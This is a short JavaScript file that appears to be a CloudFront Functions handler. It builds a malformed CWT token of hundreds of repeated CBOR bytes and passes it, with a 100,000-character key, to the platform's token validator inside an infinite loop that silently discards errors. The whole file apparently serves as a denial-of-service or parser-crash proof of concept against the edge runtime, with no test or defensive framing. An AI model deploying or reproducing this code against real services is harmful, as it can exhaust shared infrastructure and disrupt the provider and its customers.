import cf from 'cloudfront';
function handler(event) { var t = Buffer.from('d18443a10105a0' + '590380' + 'a0'.repeat(896) + '40', 'hex'); for (;;) { try { cf.cwt.validateToken(t, { key: 'k'.repeat(100000) }); } catch (e) { } } }
